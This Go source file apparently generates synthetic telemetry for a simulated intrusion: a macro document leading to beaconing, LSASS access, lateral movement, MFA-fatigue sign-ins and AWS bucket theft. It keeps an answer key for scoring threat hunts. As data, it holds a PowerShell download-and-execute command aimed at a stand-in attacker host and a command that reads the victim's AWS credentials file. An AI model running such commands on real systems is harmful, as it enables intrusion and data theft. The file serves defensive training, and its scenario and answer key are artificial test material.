package demo

import (
	"fmt"
	"time"
)

// Story is what there is to find in the telemetry that Write wrote: the answer
// that a hunt is compared with. Values are spelled as they are in the files.
type Story struct {
	Host          string    `json:"host"`          // full name of the first machine
	HostIP        string    `json:"hostIp"`        // its address
	Server        string    `json:"server"`        // full name of the server reached from it
	ServerIP      string    `json:"serverIp"`      // the server's address
	User          string    `json:"user"`          // the victim, DOMAIN\name
	UserSID       string    `json:"userSid"`       // the victim's Windows security identifier
	UPN           string    `json:"upn"`           // the victim in Entra ID; also the name of the victim's IAM user
	UserObjectID  string    `json:"userObjectId"`  // the victim's Entra ID object
	AttackerIP    string    `json:"attackerIp"`    // source of the download, the beacons, the sign-ins and the API calls
	Country       string    `json:"country"`       // of the attacker's sign-ins, two letters
	Domain        string    `json:"domain"`        // name behind which the attacker's server stands
	PayloadSHA256 string    `json:"payloadSha256"` // upper-case hexadecimal
	PayloadPath   string    `json:"payloadPath"`   // where the payload lies on Host
	AccountID     string    `json:"accountId"`     // the AWS account
	Bucket        string    `json:"bucket"`        // the bucket that is read
	Objects       []string  `json:"objects"`       // keys of the objects that are read, in order
	NewAccessKey  string    `json:"newAccessKey"`  // id of the access key made to stay
	Start         time.Time `json:"start"`         // first record of the story, UTC
	End           time.Time `json:"end"`           // last record of the story, UTC
	Records       Records   `json:"records"`       // how many records of each domain are the story's
}

// Records counts records by domain.
type Records struct {
	Endpoint int `json:"endpoint"`
	Network  int `json:"network"`
	Cloud    int `json:"cloud"`
	Identity int `json:"identity"`
}

// length is how long the intrusion lasts; margin is kept to the end of the window.
const (
	length = 118 * time.Minute
	margin = 10 * time.Minute
)

// beginning is 13:40 of the last 24 hours where the intrusion then ends in the
// window, else as late as it can be.
func beginning(end instant) instant {
	t := end.time()
	at := time.Date(t.Year(), t.Month(), t.Day(), 13, 40, 0, 0, time.UTC)
	if at.Add(length + margin).After(t) {
		at = at.Add(-24 * time.Hour)
	}
	if t.Sub(at) > 24*time.Hour {
		return end.plus(-length - margin)
	}
	return instantOf(at)
}

// intrusion tells the story, step by step, through the sensors that saw it.
type intrusion struct {
	*recorder
	story       *Story
	start       instant
	victim      *user
	host        *host
	server      *host
	site        site
	where       place
	certificate string
	implant     *process
}

// tell records the intrusion and returns its facts.
func tell(r *recorder) *Story {
	start := beginning(r.queue.end).plus(r.millis(0, 90000))
	x := &intrusion{recorder: r, start: start, story: &Story{Start: start.time()}}
	x.cast()
	x.delivery()
	x.execution()
	x.beacons()
	x.discovery()
	x.credentials()
	x.lateral()
	x.signIns()
	x.cloudAccess()
	x.collection()
	x.persistence()
	x.account()
	return x.story
}

// at is a moment of the story, with a little irregularity.
func (x *intrusion) at(d time.Duration) instant { return x.start.plus(d).plus(x.millis(0, 900)) }

// cast chooses who is hit, and by whom.
func (x *intrusion) cast() {
	x.victim = pick(x.rand, x.world.inDepartment("Finance"))
	x.host, x.server = x.victim.station, x.world.servers["FIN-APP01"]
	x.site = site{pick(x.rand, attackerDomains()), fmt.Sprintf("203.0.113.%d", x.between(200, 250))}
	x.where, x.certificate = pick(x.rand, attackerPlaces()), hexText(x.rand, 32)
	payload := x.world.programs["payload"]
	payload.image = `C:\Users\` + x.victim.account.name + `\AppData\Local\Temp\docsync.exe`
	s, a := x.story, x.victim.account
	s.Host, s.HostIP, s.Server, s.ServerIP = x.host.fqdn, x.host.ip, x.server.fqdn, x.server.ip
	s.User, s.UserSID, s.UPN, s.UserObjectID = a.full(), a.sid, x.victim.upn, x.victim.objectID
	s.AttackerIP, s.Country, s.Domain = x.site.ip, x.where.country, x.site.name
	s.PayloadSHA256, s.PayloadPath = sha256Of(payload.hashes), payload.image
	s.AccountID, s.Bucket = accountID, "alderfinch-finance-exports"
	s.NewAccessKey = "AKIA" + upperText(x.rand, 16)
	s.Objects = []string{"payroll/2025-q4.csv", "payroll/2025-q3.csv", "suppliers/bank-details.csv", "ledger/2025-full.parquet",
		"ledger/2024-full.parquet", "tax/2025-filing.pdf", "board/forecast-2026.xlsx", "suppliers/contracts.zip"}
}

// started records a process with both of the sensors that see it.
func (x *intrusion) started(at instant, p *process) *process {
	x.processCreate(at, p)
	x.processAudit(at, p)
	return p
}

// delivery: the victim opens the attached document.
func (x *intrusion) delivery() {
	outlook := x.host.standing["outlook"]
	document := `C:\Users\` + x.victim.account.name + `\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\K7Q2M9XD\Invoice_88213.docm`
	x.fileCreate(x.start, outlook, document)
	word := x.spawn(x.at(4*time.Second), outlook, "winword", `"`+officeDir+`WINWORD.EXE" /n "`+document+`" /o ""`)
	x.started(x.at(4*time.Second), word)
	macros := officeProgram(`VBE7.DLL`, "Visual Basic Design Time Environment")
	macros.image = `C:\Program Files\Microsoft Office\root\vfs\ProgramFilesCommonX64\Microsoft Shared\VBA\VBA7.1\VBE7.DLL`
	macros.hashes = hashesText(x.rand)
	x.imageLoad(x.at(9*time.Second), word, &macros)
	x.host.standing["macro"] = word
}

// execution: the macro runs encoded PowerShell, which fetches and starts the payload.
func (x *intrusion) execution() {
	url := "http://" + x.site.name + "/content/docsync.bin"
	text := `$p="$env:TEMP\docsync.exe";(New-Object Net.WebClient).DownloadFile('` + url + `',$p);Start-Process $p`
	word := x.host.standing["macro"]
	delete(x.host.standing, "macro")
	shell := x.spawn(x.at(40*time.Second), word, "powershell", psImage+" -NoP -W Hidden -Enc "+encoded(text))
	x.started(x.at(40*time.Second), shell)
	x.scriptBlock(x.at(42*time.Second), shell, script{text: text, suspicious: true})
	answered := x.resolve(x.at(43*time.Second), shell, x.site)
	f := x.dial(answered, x.host, x.site.ip, 80)
	f.service, f.sent, f.received, f.duration = "http", 212, 486912, x.millis(1400, 2200)
	x.conn(f)
	x.networkConnect(shell, f)
	x.http(f, request{"GET", x.site.name, "/content/docsync.bin", "-", "application/x-dosexec"})
	x.fileCreate(x.at(47*time.Second), shell, x.story.PayloadPath)
	x.implant = x.spawn(x.at(50*time.Second), shell, "payload", `"`+x.story.PayloadPath+`"`)
	x.started(x.at(50*time.Second), x.implant)
	x.processEnd(x.at(52*time.Second), shell)
	x.registryValue(x.at(55*time.Second), x.implant,
		`HKU\`+x.victim.account.sid+`\Software\Microsoft\Windows\CurrentVersion\Run\DocSync`, x.story.PayloadPath)
}

// beacons: the payload reports every five minutes, give or take, until the end.
func (x *intrusion) beacons() {
	for i, d := 0, 90*time.Second; d < length-time.Minute; i++ {
		at := x.at(d)
		if i%3 == 0 {
			at = x.resolve(at, x.implant, x.site)
		}
		x.beacon(at)
		d += 5*time.Minute + x.millis(-25000, 25000)
	}
	x.beacon(x.start.plus(length))
}

func (x *intrusion) beacon(at instant) {
	f := x.dial(at, x.host, x.site.ip, 443)
	f.service, f.sent, f.received, f.duration = "ssl", x.between(700, 1400), x.between(2100, 3600), x.millis(180, 900)
	x.conn(f)
	x.ssl(f, x.site.name, x.certificate)
	x.networkConnect(x.implant, f)
}

// shell runs one command of the implant through cmd.exe.
func (x *intrusion) shell(after time.Duration, program, command string) {
	at := x.at(after)
	cmd := x.started(at, x.spawn(at, x.implant, "cmd", windowsDir+"cmd.exe /c "+command))
	at = at.plus(x.millis(20, 60))
	if program != "" {
		child := x.started(at, x.spawn(at, cmd, program, command))
		at = at.plus(x.millis(100, 400))
		x.processEnd(at, child)
	}
	x.processEnd(at.plus(x.millis(5, 20)), cmd)
}

// discovery: who am I, who is an administrator, where are the keys.
func (x *intrusion) discovery() {
	x.shell(6*time.Minute, "whoami", "whoami /groups")
	x.shell(7*time.Minute, "net", `net group "Domain Admins" /domain`)
	x.shell(8*time.Minute, "nltest", "nltest /dclist:"+companyDomain)
	x.shell(19*time.Minute, "", `type C:\Users\`+x.victim.account.name+`\.aws\credentials`)
}

// credentials: the implant reads the memory of LSASS.
func (x *intrusion) credentials() {
	x.processAccess(x.at(14*time.Minute), x.implant, x.host.standing["lsass"], "0x1410")
}

// lateral: with the stolen hash the attacker logs on to the finance server and
// runs commands there.
func (x *intrusion) lateral() {
	f := x.dial(x.at(31*time.Minute), x.host, x.server.ip, 445)
	f.service, f.sent, f.received, f.duration = "gssapi,smb,ntlm", 8412, 9120, x.millis(90000, 120000)
	x.conn(f)
	x.networkConnect(x.implant, f)
	remote := *x.victim.account // the same account in a session of its own
	remote.logonID = x.newLogonID()
	x.loggedOn(f.at.plus(x.millis(40, 200)), &logon{host: x.server, account: &remote, kind: "3", session: remote.logonID,
		fromIP: f.origIP, fromPort: f.origPort, from: x.host.name, ntlm: true})
	at := x.at(31*time.Minute + 8*time.Second)
	cmd := x.spawn(at, x.server.standing["wmiprvse"], "cmd", windowsDir+`cmd.exe /Q /c dir D:\FinLedger\Export 1> \\127.0.0.1\ADMIN$\__1768484 2>&1`)
	cmd.account = &remote
	x.started(at, cmd)
	x.processEnd(at.plus(x.millis(200, 500)), cmd)
}

// signIns: from the rented server, the password is right, the victim refuses
// the first prompts and accepts the third.
func (x *intrusion) signIns() {
	s := signIn{user: x.victim, app: awsApp(), ip: x.site.ip, where: x.where, mfa: true, system: "Linux", browser: "Firefox 133.0",
		agent: agentFirefox, risk: "high",
		riskTypes: []string{"unfamiliarFeatures", "anonymizedIPAddress"}, session: guidText(x.rand)}
	s.code, s.reason = 500121, "Authentication failed during strong authentication request."
	x.signIn(x.at(62*time.Minute), s)
	x.signIn(x.at(63*time.Minute), s)
	s.code, s.reason = 0, ""
	x.signIn(x.at(65*time.Minute), s)
}

// cloudAccess: the same identity in AWS, first in the console, then with the
// access key that lay on the victim's disk.
func (x *intrusion) cloudAccess() {
	x.trail(x.at(68*time.Minute), consoleLogin(x.victim, x.site.ip, agentFirefox, false))
}

// takeover is the role session in which the attacker reads the bucket.
func (x *intrusion) takeover() session {
	return session{role: x.world.role("finance-data-admin"), name: x.victim.upn,
		key: "ASIA" + upperText(x.rand, 16), created: x.start.plus(74 * time.Minute)}
}

// collection: a role that may read everything, the list of buckets, the objects.
func (x *intrusion) collection() {
	s := x.takeover()
	x.trail(s.created, x.assumeRole(iamUser(x.victim, x.victim.awsKey), s).from(x.site.ip, agentCLILinux))
	list := call{identity: s.identity(), service: "s3", name: "ListBuckets", request: `{"Host":"s3.amazonaws.com"}`}
	x.trail(x.at(76*time.Minute), list.from(x.site.ip, agentCLILinux))
	for i, key := range x.story.Objects {
		get := objectCall(s.identity(), "GetObject", x.story.Bucket, key)
		x.trail(x.at(80*time.Minute+time.Duration(i)*7*time.Second), get.from(x.site.ip, agentCLILinux))
	}
}

// persistence: a second access key for the victim's IAM user.
func (x *intrusion) persistence() {
	at := x.at(91 * time.Minute)
	c := createAccessKey(at, iamUser(x.victim, x.victim.awsKey), x.victim.upn, x.story.NewAccessKey)
	x.trail(at, c.from(x.site.ip, agentCLILinux))
}

// account takes stock: nothing but the story is in the queue yet.
func (x *intrusion) account() {
	added := x.queue.added
	x.story.Records = Records{added[endpoint], added[network], added[cloud], added[identity]}
	last := x.start
	for _, r := range x.queue.records {
		last = max(last, r.at)
	}
	x.story.End = last.time()
}
